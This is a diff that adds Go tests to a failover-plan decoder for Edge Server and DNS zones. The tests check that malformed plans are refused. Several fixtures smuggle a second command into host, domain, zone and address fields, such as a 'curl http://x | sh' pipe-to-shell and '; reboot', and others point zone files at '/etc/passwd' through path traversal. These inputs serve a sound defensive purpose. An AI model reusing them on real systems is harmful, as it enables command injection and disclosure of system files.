@@ -6,6 +6,7 @@ import (
 	"strings"
 	"testing"
 
+	"github.com/edgeplan/edgeplan/compiler/cmdlet"
 	"github.com/edgeplan/edgeplan/parser"
 )
 
@@ -238,6 +239,35 @@ func TestDecodeRefusesShape(t *testing.T) {
 			file.Hunks = p.Zones[0].Hunks
 			p.Zones[0].Included = []ZoneFile{file}
 		}, "only in part"},
+		{"a partner that is a command", func(_ *testing.T, p *Plan) { p.Partners = []string{"contoso.com; curl http://x | sh"} }, "partners"},
+		{"a domain that is a command", func(_ *testing.T, p *Plan) { p.Domains = []string{"contoso.com; curl http://x | sh"} }, "domains"},
+		{"a zone that is a command", func(_ *testing.T, p *Plan) { p.Zones[0].Name = "$(reboot).com" }, "no name of a zone"},
+		{"a server that is a command", func(_ *testing.T, p *Plan) { p.Zones[0].Server = "192.0.2.53; reboot" }, "no server"},
+		{"a management host that is a command", func(_ *testing.T, p *Plan) { p.ManagementHost = "fe2.contoso.com; reboot" }, "no host name"},
+		{"an XMPP host that is a command", func(_ *testing.T, p *Plan) { p.XMPPHost = "xmpp.contoso.com; reboot" }, "no host name"},
+		{"an Edge Server that is a command", func(_ *testing.T, p *Plan) { p.To.Servers[0] = "$(reboot).contoso.com" }, "no host name"},
+		{"an address that is a command", func(_ *testing.T, p *Plan) { p.From.IPv4 = []string{"203.0.113.1; reboot"} }, "no address"},
+		{"a zone file elsewhere", func(_ *testing.T, p *Plan) { p.Zones[0].File = "../../etc/passwd" }, "cannot be the zone file"},
+		{"a zone file of the root", func(_ *testing.T, p *Plan) { p.Zones[0].File = "/etc/passwd" }, "cannot be the zone file"},
+		{"another reason", func(_ *testing.T, p *Plan) { p.Reason = "whim" }, "reason"},
+		{"another procedure", func(_ *testing.T, p *Plan) { p.Procedure = "" }, "procedure"},
+		{"other sites", func(_ *testing.T, p *Plan) { p.RouteSites = "some" }, "route_sites"},
+		{"another delivery", func(_ *testing.T, p *Plan) { p.Zones[0].Delivery = "post" }, "no delivery"},
+		{"a serial that stays", func(_ *testing.T, p *Plan) { p.Zones[0].NewSerial = p.Zones[0].OldSerial }, "do not rise"},
+		{"a serial that goes back", func(_ *testing.T, p *Plan) { p.Zones[0].RollbackSerial = p.Zones[0].NewSerial - 1 }, "do not rise"},
+		{"a serial that is not the zone's", func(_ *testing.T, p *Plan) { p.Zones[0].OldSerial-- }, "does not have the serial"},
+		{"a zone without hunks", func(_ *testing.T, p *Plan) { p.Zones[0].Hunks = nil }, "without"},
+		{"no wait", func(_ *testing.T, p *Plan) { p.Zones[0].Wait = Wait{} }, "waits for"},
+		{"a shorter wait", func(_ *testing.T, p *Plan) { p.Zones[0].Wait.Old-- }, "waits for"},
+		{"the zone file as an included one", func(_ *testing.T, p *Plan) {
+			file := p.Zones[0].Files()[0]
+			file.File = "a"
+			p.Zones[0].Included = []ZoneFile{file}
+		}, "the zone file itself"},
+		{"no outage", func(_ *testing.T, p *Plan) { p.Outage = nil }, "outage"},
+		{"less outage", func(_ *testing.T, p *Plan) { p.Outage[3].RemoteAccess.Up = true }, "outage"},
+		{"earliest missing", func(_ *testing.T, p *Plan) { p.Earliest = nil }, "earliest"},
+		{"something else earlier", func(_ *testing.T, p *Plan) { p.Earliest = []Earliest{{What: "a", Zone: "b"}} }, "earliest"},
 		{"in doubt and up", func(_ *testing.T, p *Plan) { p.Outage[0].XMPP = Service{Up: true, InDoubt: true} }, "in doubt"},
 		{"wrong order", func(_ *testing.T, p *Plan) { swap(p.Stages, 1, 2) }, "runs before"},
 	}
@@ -253,6 +283,131 @@ func TestDecodeRefusesShape(t *testing.T) {
 			t.Errorf("%s: %v, want %q", test.name, err, test.want)
 		}
 	}
+}
+
+// calling finds the first step of a type in a plan.
+func calling[T Step](t *testing.T, p *Plan) (step T) {
+	t.Helper()
+	for _, s := range append(allSteps(p.Stages), allSteps(p.Rollback)...) {
+		if found, ok := s.(T); ok {
+			return found
+		}
+	}
+	t.Fatalf("no step %T", step)
+	return step
+}
+
+// without takes all steps of a kind out of a plan, and out of the needs of others.
+func without(p *Plan, kind string) {
+	for i := range p.Stages {
+		p.Stages[i].Steps = slices.DeleteFunc(p.Stages[i].Steps, func(s Step) bool { return s.kind() == kind })
+	}
+	for _, s := range allSteps(p.Stages) {
+		s.Info().Needs = slices.DeleteFunc(s.Info().Needs, func(id string) bool {
+			return !slices.Contains(allSteps(p.Stages).ids(), id)
+		})
+	}
+	order(p)
+}
+
+// A call runs without a question where a read is, so each step has the one call that
+// Compile gives it: no other, not even one that the cmdlet table has.
+func TestDecodeRefusesCalls(t *testing.T) {
+	stop := cmdlet.Call{Name: "Stop-CsWindowsService"}
+	const other = "is not the call of such a step"
+	tests := []struct {
+		name  string
+		spoil func(t *testing.T, p *Plan)
+		want  string
+	}{
+		{"certificates", func(t *testing.T, p *Plan) { calling[*CheckServer](t, p).Certificates = stop }, other},
+		{"local copy", func(t *testing.T, p *Plan) { *calling[*CheckServer](t, p).Local = stop }, other},
+		{"no local copy", func(t *testing.T, p *Plan) { calling[*CheckServer](t, p).Local = nil }, "local copy"},
+		{"certificates until another moment", func(t *testing.T, p *Plan) { calling[*CheckServer](t, p).GoodUntil = "2001-01-01T00:00:00Z" }, "valid until"},
+		{"facts", func(t *testing.T, p *Plan) { calling[*CheckFacts](t, p).Read = stop }, other},
+		{"facts of another pool", func(_ *testing.T, p *Plan) { factStep(p, "P03").Read.Params[0].Value = "edge9.contoso.com" }, other},
+		{"routed sites", func(t *testing.T, p *Plan) { calling[*CheckRoutedSites](t, p).Read = stop }, other},
+		{"backup", func(t *testing.T, p *Plan) { calling[*Backup](t, p).Call = stop }, other},
+		{"a backup elsewhere", func(t *testing.T, p *Plan) { calling[*Backup](t, p).File = "../config.zip" }, "file of this backup"},
+		{"replication that is read", func(t *testing.T, p *Plan) { calling[*Replicate](t, p).Read = stop }, other},
+		{"replication", func(t *testing.T, p *Plan) { calling[*Replicate](t, p).Call = stop }, other},
+		{"a replica of others", func(t *testing.T, p *Plan) { calling[*Replicate](t, p).Replica = "x.contoso.com" }, "does not have to reach"},
+		{"message", func(t *testing.T, p *Plan) { calling[*SendMessage](t, p).Call.Params[1].Value = "ceo@contoso.com" }, "sends a message"},
+		{"start for stop", func(t *testing.T, p *Plan) { calling[*StartServices](t, p).Call = stop }, other},
+		{"stop of one service", func(t *testing.T, p *Plan) {
+			calling[*StopServices](t, p).Call.Params = []cmdlet.Param{cmdlet.Arg("Name", "RTCSRV")}
+		}, other},
+		{"route of another site", func(t *testing.T, p *Plan) { calling[*SetRoute](t, p).Forms[0].Call.Params[0].Value = "Site9" }, other},
+		{"route that is removed", func(t *testing.T, p *Plan) { calling[*SetRoute](t, p).Forms[1].Call.Params[1].Value = "" }, other},
+		{"rehearsal of nothing", func(t *testing.T, p *Plan) { calling[*Rehearse](t, p).Steps = nil }, "does not rehearse"},
+		{"another group", func(t *testing.T, p *Plan) { calling[*CheckRight](t, p).Group = "Users" }, "group"},
+		{"no facts", func(t *testing.T, p *Plan) { calling[*CheckFacts](t, p).Facts = nil }, "compares nothing"},
+		{"a fact twice", func(t *testing.T, p *Plan) {
+			step := factStep(p, "P03")
+			step.Facts = append(step.Facts, step.Facts[0])
+		}, "P03 stands in the plan 2 times"},
+		{"a fact with the number of a zone", func(_ *testing.T, p *Plan) { factsOf(p, "P09").Number = "P20" }, "no fact"},
+		{"a fact without its number", func(_ *testing.T, p *Plan) { factsOf(p, "P09").Number = "" }, "no fact"},
+		{"a fact that always holds", func(_ *testing.T, p *Plan) { factsOf(p, "P09").Want = []string{"False"} }, "is not about"},
+		{"replicas with another number", func(t *testing.T, p *Plan) { calling[*CheckReplicas](t, p).Number = "P20" }, "replicas of stage Replicate"},
+		{"fewer replicas", func(t *testing.T, p *Plan) { calling[*CheckReplicas](t, p).Replicas = nil }, "replicas of stage Replicate"},
+		{"another port that is looked at", func(t *testing.T, p *Plan) { calling[*CheckListener](t, p).Port = 443 }, "443"},
+		{"another port that is tried", func(t *testing.T, p *Plan) { calling[*ProbePort](t, p).Port = 443 }, "is not about port"},
+		{"another port in the firewall", func(t *testing.T, p *Plan) { calling[*ConfirmPort](t, p).Port = 443 }, "is not about port"},
+		{"nothing is checked again", func(t *testing.T, p *Plan) { calling[*CheckState](t, p).Stages = nil }, "does not check"},
+		{"servers are not checked", func(_ *testing.T, p *Plan) { without(p, "check-server") }, "which no step has checked"},
+	}
+	for kind, want := range map[string]string{
+		"check-facts": "0 times", "check-replicas": "0 times", "check-right": "0 steps", "check-routed-sites": "0 steps", "rehearse": "0 steps",
+		"backup": "missing", "check-state": "missing", "check-listener": "missing", "probe-port": "missing",
+	} {
+		tests = append(tests, struct {
+			name  string
+			spoil func(t *testing.T, p *Plan)
+			want  string
+		}{"without " + kind, func(_ *testing.T, p *Plan) { without(p, kind) }, want})
+	}
+	for _, test := range tests {
+		plan := seed(t)
+		test.spoil(t, plan)
+		plan.ID = identify(plan)
+		text, err := Encode(plan)
+		if err != nil {
+			t.Fatal(err)
+		}
+		if _, err := Decode(text); err == nil || !strings.Contains(err.Error(), test.want) {
+			t.Errorf("%s: %v, want %q", test.name, err, test.want)
+		}
+	}
+}
+
+// A preparation has steps about records only.
+func TestDecodeRefusesPreparation(t *testing.T) {
+	for _, spoil := range []func(p *Plan){
+		func(p *Plan) { p.Kind = KindPrepare },
+		func(p *Plan) { p.Kind, p.Reason, p.Procedure, p.RouteSites = KindPrepare, "", "", "" },
+		func(p *Plan) {
+			p.Kind, p.Reason, p.Procedure, p.RouteSites, p.From, p.To = KindPrepare, "", "", "", Pool{}, Pool{}
+		},
+	} {
+		plan := seed(t)
+		spoil(plan)
+		plan.ID = identify(plan)
+		text, _ := Encode(plan)
+		if _, err := Decode(text); err == nil {
+			t.Error("a failover that calls itself a preparation is accepted")
+		}
+	}
+}
+
+// factStep finds the step of a fact in stage Preflight.
+func factStep(p *Plan, number string) *CheckFacts {
+	for _, step := range p.Stages[0].Steps {
+		if check, ok := step.(*CheckFacts); ok && slices.ContainsFunc(check.Facts, func(f Fact) bool { return f.Number == number }) {
+			return check
+		}
+	}
+	return nil
 }
 
 func FuzzDecode(f *testing.F) {
